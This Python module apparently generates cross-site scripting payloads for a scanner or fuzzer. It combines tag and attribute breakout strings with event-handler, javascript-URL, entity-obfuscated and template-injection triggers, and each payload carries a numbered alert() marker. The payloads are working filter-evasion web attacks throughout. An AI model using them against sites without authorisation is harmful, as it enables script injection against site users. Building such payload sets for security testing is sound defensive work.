"""Words that would run as a script if a page took them for anything but words: each says `alert(N)`, with its own N."""

from itertools import product

WAYS_OUT = (
    "",  # of nothing: where words stand
    '">',  # of an attribute, and its tag
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "</option></select>",
    "</noscript>",
    "]]></svg>",
    "\\\";'>",  # of a text in a script
)
"""Ways out of wherever words may have been put."""

RUNS = (
    "<script>alert(N)</script>",
    "<ScRiPt\t/x>alert(N)</sCrIpT\n>",
    "<script src=data:,alert(N)></script>",
    "<img src=x: onerror=alert(N)>",
    "<img/src=x:\nonerror=&#97;lert&lpar;N)>",
    "<image src=x: onerror=alert(N)>",
    "<svg onload=alert(N)>",
    "<svg><script>alert&#40;N)</script></svg>",
    "<svg><animate onbegin=alert(N) attributeName=x dur=1s>",
    "<details open ontoggle=alert(N)>x</details>",
    '<iframe srcdoc="<script>parent.alert(N)</script>"></iframe>',
    "<iframe src=java&Tab;script:parent.alert(N)></iframe>",
    "<iframe onload=alert(N)></iframe>",
    "<input autofocus onfocus=alert(N)>",
    "<video><source onerror=alert(N)></video>",
    "<audio src=x: onerror=alert(N)></audio>",
    "<embed src=javascript:alert(N)>",
    "<style onload=alert(N)>*{}</style>",
    "<link rel=stylesheet href=data:, onload=alert(N)>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x: onerror=alert(N)>",
    '<a href="java&#10;script:alert(N)">x</a>',
    "<p style=\"width:expression(alert(N));background:url('javascript:alert(N)')\">",
    "<style>@import 'javascript:alert(N)';</style>",
    "{{alert(N)}}${alert(N)}%(alert)s{0.alert}<%=alert(N)%>",
    "\\u003cimg src=x: onerror=alert(N)\\u003e%3Cscript%3Ealert(N)%3C/script%3E&lt;svg onload=alert(N)&gt;",
)
"""What runs by itself, and what did or does elsewhere: on a press, in other browsers, read by another program."""

PAYLOADS = tuple(way + run.replace("N", str(number)) for number, (way, run) in enumerate(product(WAYS_OUT, RUNS), 1000))

STILL = (16, 20, 21, 22, 23, 24)
"""Of `RUNS`: what does nothing in a browser of today unless it is pressed, or changed on its way."""


def joined(start: int, longest: int) -> tuple[str, int]:
    """As many of them as fit one answer, from one on that does; and the next to come. `longest` counts letters."""
    said, at = "", start
    while len(PAYLOADS[at % len(PAYLOADS)]) > longest:
        at += 1
    start = at
    while len(said) + len(PAYLOADS[at % len(PAYLOADS)]) <= longest and at - start < len(PAYLOADS):
        said += PAYLOADS[at % len(PAYLOADS)]
        at += 1
    return said, at
